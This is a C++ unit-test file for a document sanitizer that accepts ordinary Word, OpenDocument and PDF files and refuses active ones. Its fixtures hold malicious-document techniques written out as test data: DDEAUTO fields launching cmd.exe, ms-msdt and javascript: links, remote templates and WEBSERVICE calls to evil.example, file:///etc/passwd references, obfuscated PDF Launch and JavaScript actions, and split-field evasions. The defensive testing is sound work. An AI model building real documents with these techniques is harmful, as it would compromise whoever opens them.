#include "lib/files/document.hpp"
#include "support/sanitized.hpp"
#include "support/zipped.hpp"

#include <boost/test/unit_test.hpp>
#include <ctime>
#include <string>
#include <utility>
#include <vector>
#include <zlib.h>

using test::Entries;
using test::zipped;
using web::NotTaken;

namespace {

/// "" when it is taken.
std::string fault_of(const std::string& content) {
    const auto found = web::look_into(content);
    const auto* why = std::get_if<NotTaken>(&found);
    if (!why) return "";
    switch (*why) {
    case NotTaken::other_kind:
        return "other kind";
    case NotTaken::more_inside:
        return "more inside";
    case NotTaken::active_pdf:
        return "active pdf";
    case NotTaken::locked:
        return "locked";
    case NotTaken::too_large:
        break;
    }
    return "too large";
}

std::string office_type(const std::string& kind) {
    return "application/vnd.openxmlformats-officedocument." + kind;
}

/// A document of Word with one part more, of that type.
std::string word_with(const std::string& part, const std::string& content,
                      const std::string& type = "application/xml") {
    return zipped({{"[Content_Types].xml",
                    "<Types><Default Extension='rels' "
                    "ContentType='application/vnd.openxmlformats-package.relationships+xml'/>"
                    "<Default Extension='xml' ContentType='application/xml'/><Override "
                    "PartName='/word/document.xml' ContentType='" +
                        office_type("wordprocessingml.document.main+xml") + "'/><Override PartName='/" +
                        part + "' ContentType='" + type + "'/></Types>"},
                   {"word/document.xml", "<w:document xmlns:w='w'><w:p/></w:document>"},
                   {part, content}});
}

std::string word_that_says(const std::string& body) {
    return zipped({{"[Content_Types].xml", "<Types/>"},
                   {"word/document.xml", "<w:document xmlns:w='w'>" + body + "</w:document>"}});
}

std::string word_with_relation(const std::string& type, const std::string& target,
                               const std::string& mode = "External") {
    return word_with("word/_rels/document.xml.rels",
                     "<Relationships><Relationship Id='r1' "
                     "Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/" +
                         type + "' Target='" + target + "' TargetMode='" + mode + "'/></Relationships>",
                     "application/vnd.openxmlformats-package.relationships+xml");
}

std::string field(const std::string& instruction) {
    return word_that_says(
        "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>" + instruction +
        "</w:instrText></w:r><w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>1</w:t></w:r>"
        "<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>");
}

std::string open_text(const std::string& content, Entries more = {}) {
    Entries all{{"mimetype", "application/vnd.oasis.opendocument.text"},
                {"content.xml", "<office:document-content xmlns:office='o'><office:scripts/>" + content +
                                    "</office:document-content>"},
                {"META-INF/manifest.xml", "<manifest:manifest/>"}};
    all.insert(all.end(), more.begin(), more.end());
    return zipped(all);
}

std::string pdf_with(const std::string& object) {
    return "%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n3 0 obj\n" + object +
           "\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n";
}

std::string deflated(const std::string& text) {
    uLongf size = ::compressBound(text.size());
    std::string packed(size, '\0');
    ::compress(reinterpret_cast<Bytef*>(packed.data()), &size, reinterpret_cast<const Bytef*>(text.data()),
               text.size());
    packed.resize(size);
    return packed;
}

std::string pdf_with_objects(const std::string& objects, const std::string& filter = "/Filter/FlateDecode") {
    return pdf_with("<</Type/ObjStm/N 1/First 4" + filter + ">>\nstream\n" + deflated("5 0 " + objects) +
                    "\nendstream");
}

std::string repeated(const std::string& text, std::size_t bytes) {
    std::string all;
    while (all.size() < bytes) all += text;
    return all;
}

} // namespace

BOOST_AUTO_TEST_SUITE(documents, *boost::unit_test::label("no_postgresql"))

BOOST_AUTO_TEST_CASE(a_letter_with_links_pages_and_a_table_of_contents_is_taken) {
    BOOST_TEST(fault_of(word_with("word/styles.xml", "<w:styles/>",
                                  office_type("wordprocessingml.styles+xml"))) == "");
    BOOST_TEST(fault_of(word_with("word/media/image1.png", "\x89PNG", "image/png")) == "");
    for (const char* target : {"https://www.example.fr/l&#39;actu", "mailto:mairie@example.fr",
                               "tel:+33123456789", "file:///C:/Users/Lea/plan.pdf"})
        BOOST_TEST(fault_of(word_with_relation("hyperlink", target)) == "", target);
    for (const char* instruction :
         {" PAGE ", "NUMPAGES \\* Arabic", " TOC \\o &quot;1-3&quot; \\h", "HYPERLINK \"https://example.fr\"",
          "HYPERLINK \\l \"_Toc1\"", "date \\@ \"dd/MM/yyyy\"", "=SUM(ABOVE)", ""})
        BOOST_TEST(fault_of(field(instruction)) == "", instruction);
    BOOST_TEST(fault_of(word_that_says(
                   "<w:p><w:r><w:t>DDEAUTO is a word as any &amp; https://example.org</w:t></w:r></w:p>")) ==
               "");
    BOOST_TEST(fault_of(open_text(
                   "<text:p><text:a xlink:href='https://example.fr'>lien</text:a><draw:image "
                   "xlink:href='Pictures/1.png'/></text:p>",
                   {{"Pictures/1.png", "\x89PNG"}, {"Configurations2/accelerator/current.xml", ""}})) == "");
    BOOST_TEST(fault_of(pdf_with("<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.fr)>>>>")) == "");
    BOOST_TEST(fault_of(pdf_with_objects("<</Type/Page>>")) == "");
}

BOOST_AUTO_TEST_CASE(what_is_fetched_from_elsewhere_when_it_is_opened_is_refused) {
    for (const char* type : {"oleObject", "subDocument", "frame", "image", "attachedTemplate",
                             "externalLinkPath", "video", "aFChunk", "mailMergeSource"})
        for (const char* target :
             {"https://evil.example/a", "mhtml:http://evil.example/a!x-usc:http://evil.example/a",
              "\\\\evil\\a", "file://evil/a"})
            BOOST_TEST(fault_of(word_with_relation(type, target)) == "more inside", type << " " << target);
    for (const char* target : {"ms-msdt:/id PCWDiagnostic", "javascript:alert(1)", "search-ms:query=x",
                               "\\\\evil\\share", "file://evil/share", "mk:@MSITStore:x", "vbscript:x"})
        BOOST_TEST(fault_of(word_with_relation("hyperlink", target)) == "more inside", target);
    BOOST_TEST(fault_of(word_with_relation("image", "http://evil.example/a.png", "Internal")) ==
               "more inside");
    BOOST_TEST(fault_of(word_with_relation("im&#97;ge", "http://evil.example/a.png")) == "more inside");
    BOOST_TEST(fault_of(word_that_says("<v:imagedata src='http://evil.example/a.png'/>")) == "more inside");
    for (const char* tag :
         {"<draw:image xlink:href='http://evil.example/a.png'/>",
          "<draw:image xlink:href='file:///etc/passwd'/>", "<draw:image xlink:href='//evil/a'/>",
          "<text:section-source xlink:href='http://evil.example/a.odt'/>",
          "<draw:floating-frame xlink:href='x'/>",
          "<text:a xlink:href='vnd.sun.star.script:a?language=Basic'/>",
          "<text:a xlink:href='macro:///Standard.M.Main'/>"})
        BOOST_TEST(fault_of(open_text(tag)) == "more inside", tag);
}

BOOST_AUTO_TEST_CASE(documents_and_programs_inside_a_document_are_refused) {
    const std::string bin = "\xd0\xcf\x11\xe0";
    for (const auto& [part, type] :
         Entries{{"word/embeddings/oleObject1.bin", office_type("oleObject")},
                 {"word/embeddings/sheet1.xlsx", office_type("spreadsheetml.sheet.macroEnabled")},
                 {"word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"},
                 {"word/activeX/activeX1.bin", "application/vnd.ms-office.activeX"},
                 {"xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"},
                 {"xl/macrosheets/intl.xml", "application/vnd.ms-excel.intlmacrosheet+xml"},
                 {"xl/externalLinks/externalLink1.xml", office_type("spreadsheetml.externalLink+xml")},
                 {"xl/connections.xml", office_type("spreadsheetml.connections+xml")},
                 {"customUI/customUI.xml", "application/vnd.ms-office.customUI+xml"},
                 {"word/page.html", "text/html"},
                 {"word/a.rtf", "application/rtf"},
                 {"word/theme.bin", "application/octet-stream"},
                 {"word/a.exe", "application/x-msdownload"}})
        BOOST_TEST(fault_of(word_with(part, bin, type)) == "more inside", part);
    for (const char* part : {"word/embeddings/oleObject1.bin", "word/a.exe", "word/a", "word/a.js"})
        BOOST_TEST(fault_of(zipped(
                       {{"[Content_Types].xml", "<Types/>"}, {"word/document.xml", "<w/>"}, {part, bin}})) ==
                       "more inside",
                   part);
    for (const char* relation : {"oleObject", "package", "control", "frame", "vbaProject", "aFChunk"})
        BOOST_TEST(fault_of(word_with_relation(relation, "embeddings/a.xml", "Internal")) == "more inside",
                   relation);
    for (const auto& [part, content] : Entries{
             {"Object 1", bin},
             {"Basic/script-lc.xml", "<a/>"},
             {"Scripts/python/a.py", "x"},
             {"Pictures/a.exe", "MZ"},
             {"Configurations2/accelerator/current.xml", "<accel:item xlink:href='vnd.sun.star.script:x'/>"}})
        BOOST_TEST(fault_of(open_text("", {{part, content}})) == "more inside", part);
    for (const char* tag :
         {"<script:event-listener script:language='ooo:script' xlink:href='x'/>",
          "<office:script script:language='x'/>", "<draw:object-ole xlink:href='./Object 1'/>",
          "<draw:plugin/>", "<draw:applet/>", "<presentation:event-listener presentation:action='execute'/>",
          "<text:execute-macro/>"})
        BOOST_TEST(fault_of(open_text(tag)) == "more inside", tag);
}

BOOST_AUTO_TEST_CASE(fields_and_formulas_that_start_programs_are_refused_however_they_are_written) {
    for (const char* instruction : {"DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"", "dde excel a b",
                                    " INCLUDEPICTURE \"http://evil.example/a.png\" \\d", "INCLUDETEXT x",
                                    "IMPORT x", "LINK Excel.Sheet x", "EMBED Package", "DATABASE x",
                                    "MACROBUTTON x", "HYPERLINK \"ms-msdt:/id\"", "&#68;DE x y"})
        BOOST_TEST(fault_of(field(instruction)) == "more inside", instruction);
    BOOST_TEST(fault_of(word_that_says("<w:fldSimple w:instr='DDEAUTO a b'/>")) == "more inside");
    const std::string begin = "<w:fldChar w:fldCharType='begin'/>", end = "<w:fldChar w:fldCharType='end'/>";
    const auto piece = [](const std::string& text) { return "<w:instrText>" + text + "</w:instrText>"; };
    BOOST_TEST(fault_of(word_that_says(begin + piece("DD") + piece("EAUTO x y") + end)) == "more inside");
    BOOST_TEST(fault_of(word_that_says(begin + piece("D") + begin + piece("QUOTE 68") + end +
                                       piece("EAUTO x") + end)) == "more inside");
    BOOST_TEST(fault_of(word_that_says(begin + piece("IF 1 = 1 ") + begin + piece("DDE a b") + end + end)) ==
               "more inside");
    BOOST_TEST(fault_of(word_that_says(begin + piece("DDEAUTO x y"))) == "more inside");
    const auto cell = [](const std::string& formula) {
        return fault_of(zipped({{"[Content_Types].xml", "<Types/>"},
                                {"xl/workbook.xml", "<w/>"},
                                {"xl/worksheets/sheet1.xml", "<c><f>" + formula + "</f></c>"}}));
    };
    BOOST_TEST(cell("SUM(A1:A9)*Feuil2!B1") == "");
    for (const char* formula : {"WEBSERVICE(\"http://evil\")", "cmd|&apos;/c calc&apos;!A0",
                                "_xlfn.WEBSERVICE(A1)", "EXEC(\"calc\")", "CALL(\"u\",\"v\")"})
        BOOST_TEST(cell(formula) == "more inside", formula);
    for (const char* formula :
         {"of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)", "of:=WEBSERVICE(&quot;http://e&quot;)",
          "of:=&apos;file:///etc/passwd&apos;#$Sheet1.A1"})
        BOOST_TEST(fault_of(open_text("<table:table-cell table:formula='" + std::string{formula} + "'/>")) ==
                       "more inside",
                   formula);
}

BOOST_AUTO_TEST_CASE(what_could_be_read_in_two_ways_is_not_read) {
    BOOST_TEST(fault_of(word_that_says("<!DOCTYPE a [<!ENTITY x 'y'>]>")) == "more inside");
    BOOST_TEST(fault_of(word_that_says("<a b=c/>")) == "more inside");
    BOOST_TEST(fault_of(word_with("word/styles.xml", "<?xml version='1.0' encoding='UTF-7'?><a/>",
                                  office_type("wordprocessingml.styles+xml"))) == "more inside");
    BOOST_TEST(fault_of(word_with("word/styles.xml", std::string("<\0a\0", 4),
                                  office_type("wordprocessingml.styles+xml"))) == "more inside");
    BOOST_TEST(fault_of(zipped({{"[Content_Types].xml", "<Types/>"},
                                {"word/document.xml", "<w/>"},
                                {"WORD/Document.xml", "<w/>"}})) == "more inside");
    BOOST_TEST(fault_of(zipped({{"[Content_Types].xml", "<Types/>"},
                                {"word/document.xml", "<w/>"},
                                {"word/../a.xml", "<w/>"}})) == "more inside");
    BOOST_TEST(fault_of(zipped(
                   {{"%PDF-1.7", ""}, {"[Content_Types].xml", "<Types/>"}, {"word/document.xml", "<w/>"}})) ==
               "more inside");
    BOOST_TEST(fault_of("%PDF-1.7\n%%EOF\n" + zipped({{"a", "b"}}) + "\n%%EOF\n") == "active pdf");
}

BOOST_AUTO_TEST_CASE(a_pdf_that_does_something_is_refused_wherever_that_stands) {
    for (const char* object :
         {"<</S/JavaScript/JS(app.alert(1))>>", "<</S /Launch /F (cmd.exe)>>", "<</S/J#61vaScript/JS 5 0 R>>",
          "<</S/La#75nch>>", "<</Type/EmbeddedFile>>", "<</Names<</EmbeddedFiles 5 0 R>>>>",
          "<</Subtype/RichMedia>>", "<</S/SubmitForm/F(http://evil)>>", "<</S/ImportData>>", "<</S/GoToE>>",
          "<</OpenAction<</S/URI/URI(http://evil)>>>>", "<</Subtype/FileAttachment>>"}) {
        BOOST_TEST(fault_of(pdf_with(object)) == "active pdf", object);
        BOOST_TEST(fault_of(pdf_with_objects(object)) == "active pdf", object << " packed");
        BOOST_TEST(fault_of(pdf_with("<</Length 9>>\nstream\n5 0 obj " + std::string{object} +
                                     " endobj\nendstream")) == "active pdf",
                   object << " hidden in a stream");
    }
    for (const char* filter : {"/Filter[/ASCIIHexDecode/FlateDecode]", "/Filter/LZWDecode", "/Filter 9 0 R",
                               "/Filter/FlateDecode/DecodeParms<</Predictor 12>>"})
        BOOST_TEST(fault_of(pdf_with_objects("<</S/JavaScript>>", filter)) == "active pdf", filter);
    BOOST_TEST(fault_of(pdf_with_objects("<</a 1>>") + "trailer<</Encrypt 9 0 R>>\n%%EOF\n") == "locked");
    BOOST_TEST(fault_of(pdf_with("<</OpenAction[3 0 R/Fit]>>")) == "");
    BOOST_TEST(fault_of(pdf_with_objects(std::string(std::size_t{120} << 20, ' '))) == "too large");
}

BOOST_AUTO_TEST_CASE(a_pdf_that_repeats_the_word_before_what_is_packed_is_not_looked_through_again_and_again) {
    constexpr std::size_t bytes = std::size_t{5} << 20;
    // Blocks of nothing, and every few thousand bytes one that holds the beginning of another such stream.
    const std::string head = "stream\n\x78\x01";
    const auto nothing = repeated(std::string("\0\0\0\xff\xff", 5), 5000);
    const auto streams = head + repeated(nothing + std::string("\0\x09\0\xf6\xff", 5) + head, bytes);
    for (const auto& [content, fault] : std::vector<std::pair<std::string, std::string>>{
             {repeated("stream", bytes), "too large"},
             {repeated("stream\n\x78\x9c", bytes), "too large"},
             {streams, "too large"},
             {repeated("/OpenAction<<", bytes) + "/GoTo>>", "active pdf"},
             {repeated(repeated(" ", 1000) + " obj<<>>stream\n", bytes), ""}}) {
        const auto start = std::clock();
        BOOST_TEST(fault_of("%PDF-1.7\n" + content + "\n%%EOF\n") == fault);
        BOOST_TEST(std::clock() - start < test::slowdown() * 2 * CLOCKS_PER_SEC, content.substr(0, 20));
    }
}

BOOST_AUTO_TEST_SUITE_END()
